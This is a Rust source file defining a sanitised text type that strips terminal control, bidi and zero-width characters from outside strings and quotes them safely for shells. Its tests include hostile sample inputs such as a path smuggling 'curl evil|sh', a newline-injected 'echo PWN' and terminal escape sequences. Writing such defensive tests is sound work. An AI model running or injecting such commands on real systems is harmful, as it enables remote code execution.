// SPDX-License-Identifier: MIT OR Apache-2.0
//! Text from outside: names, paths, symbols, everything in a recording. The owner of a process chooses it, and it ends up on
//! terminals, in files and in commands that people paste. It becomes harmless once, where it enters: by being a [`Text`].
//! The names of threads are [`Comm`](crate::event::Comm), which cleans in the same way.

use std::{
    borrow::{Borrow, Cow},
    fmt,
    ops::Deref,
    sync::Arc,
};

use serde::{Deserialize, Deserializer, Serialize, Serializer};

/// One harmless line from outside. Every constructor cleans ([`one_line`]), so no value can hold what terminals obey or
/// what hides or reorders text. A clone shares the letters.
#[derive(Clone, Default, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct Text(Arc<str>);

impl Text {
    /// One word for a shell, whatever is in it: plain text stays as it is, other text is quoted.
    pub fn shell_word(&self) -> Cow<'_, str> {
        let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"/._-:@%+,".contains(&byte);
        match &self.0 {
            text if !text.is_empty() && text.bytes().all(is_plain) => Cow::Borrowed(text),
            text => Cow::Owned(format!("'{}'", text.replace('\'', r"'\''"))),
        }
    }
}

impl From<&str> for Text {
    fn from(text: &str) -> Self {
        Self(one_line(text).into())
    }
}

impl From<String> for Text {
    fn from(text: String) -> Self {
        Self::from(&*text)
    }
}

impl Deref for Text {
    type Target = str;

    fn deref(&self) -> &str {
        &self.0
    }
}

/// `Hash`, `Eq` and `Ord` of a [`Text`] are those of its letters.
impl Borrow<str> for Text {
    fn borrow(&self) -> &str {
        self
    }
}

impl fmt::Display for Text {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.pad(self)
    }
}

impl fmt::Debug for Text {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        fmt::Debug::fmt(&**self, f)
    }
}

impl Serialize for Text {
    fn serialize<S: Serializer>(&self, to: S) -> Result<S::Ok, S::Error> {
        to.serialize_str(self)
    }
}

impl<'de> Deserialize<'de> for Text {
    fn deserialize<D: Deserializer<'de>>(from: D) -> Result<Self, D::Error> {
        Cow::<str>::deserialize(from).map(|text| Self::from(&*text))
    }
}

/// What takes the place of a character that could do something.
const REPLACEMENT: char = char::REPLACEMENT_CHARACTER;

/// Text of one line: what terminals obey (control characters) and what hides or reorders text becomes U+FFFD.
pub fn one_line(text: &str) -> Cow<'_, str> {
    replaced(text, is_harmful)
}

/// The same for text of several lines: line feeds and tabs stay.
pub fn lines(text: &str) -> Cow<'_, str> {
    replaced(text, |letter| is_harmful(letter) && !matches!(letter, '\n' | '\t'))
}

/// Names of strings that have several lines: the verifier's logs, and facts in words.
const OF_SEVERAL_LINES: [&str; 2] = ["verifier_log", "words"];

/// Strings of a JSON value, and their keys.
pub fn clean(value: &mut serde_json::Value) {
    match value {
        serde_json::Value::String(text) => {
            if let Cow::Owned(harmless) = one_line(text) {
                *text = harmless;
            }
        }
        serde_json::Value::Array(values) => values.iter_mut().for_each(clean),
        serde_json::Value::Object(fields) => {
            for (name, value) in fields.iter_mut() {
                match value {
                    serde_json::Value::String(text) if OF_SEVERAL_LINES.contains(&name.as_str()) => {
                        *text = lines(text).into_owned();
                    }
                    value => clean(value),
                }
            }
        }
        serde_json::Value::Null | serde_json::Value::Bool(_) | serde_json::Value::Number(_) => {}
    }
}

fn replaced(text: &str, is_harmful: impl Fn(char) -> bool) -> Cow<'_, str> {
    if !text.contains(&is_harmful) {
        return Cow::Borrowed(text);
    }
    Cow::Owned(text.chars().map(|letter| if is_harmful(letter) { REPLACEMENT } else { letter }).collect())
}

/// Control characters, line separators, and characters without a shape that change what is seen of others.
fn is_harmful(letter: char) -> bool {
    letter.is_control()
        || matches!(
            letter,
            '\u{61c}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}'
        )
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn what_does_something_is_replaced() {
        assert_eq!(one_line("a\necho PWN;#"), "a\u{fffd}echo PWN;#");
        assert_eq!(one_line("\x1b]0;x\x07\u{9b}31m\u{202e}\r"), "\u{fffd}]0;x\u{fffd}\u{fffd}31m\u{fffd}\u{fffd}");
        assert!(matches!(one_line("nginx: wörker"), Cow::Borrowed(_)));
        assert_eq!(lines("a\n\tb\x1b"), "a\n\tb\u{fffd}");
        let mut value =
            serde_json::json!({"comm": "a\nb", "list": ["\x1b"], "verifier_log": "1\n2\r", "words": "3\n4\r"});
        clean(&mut value);
        let harmless = serde_json::json!({"comm": "a\u{fffd}b", "list": ["\u{fffd}"], "verifier_log": "1\n2\u{fffd}", "words": "3\n4\u{fffd}"});
        assert_eq!(value, harmless);
    }

    #[test]
    fn a_word_is_one_word() {
        let word = |text: &str| Text::from(text).shell_word().into_owned();
        assert_eq!(word("/run/netns/blue"), "/run/netns/blue");
        assert_eq!(word("/proc/1/ns/net;curl evil|sh"), "'/proc/1/ns/net;curl evil|sh'");
        assert_eq!(word("it's $(x) `y`"), r"'it'\''s $(x) `y`'");
        assert_eq!(word(""), "''");
    }

    #[test]
    fn there_is_no_way_to_a_text_that_is_not_cleaned() {
        let (hostile, harmless) = ("a\n\x1b[2J\u{202e}", "a\u{fffd}\u{fffd}[2J\u{fffd}");
        let read: Text = serde_json::from_str(r#""a\n\u001b[2J\u202e""#).expect("a string");
        for text in [hostile.into(), hostile.to_owned().into(), read] {
            assert_eq!(&*text, harmless);
            assert_eq!(serde_json::json!(text), harmless);
        }
        let known = std::collections::HashSet::from([Text::from("/pod")]);
        assert!(known.contains("/pod"), "looked up without making one");
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]

        #[test]
        fn a_shell_reads_it_as_it_is(text in "[ -~\u{e4}\n\x1b]{0,20}") {
            let script = format!("printf %s {}", Text::from(&*text).shell_word());
            let said = std::process::Command::new("sh").args(["-c", &script]).output().expect("a shell");
            prop_assert_eq!(String::from_utf8_lossy(&said.stdout), one_line(&text));
        }
    }
}
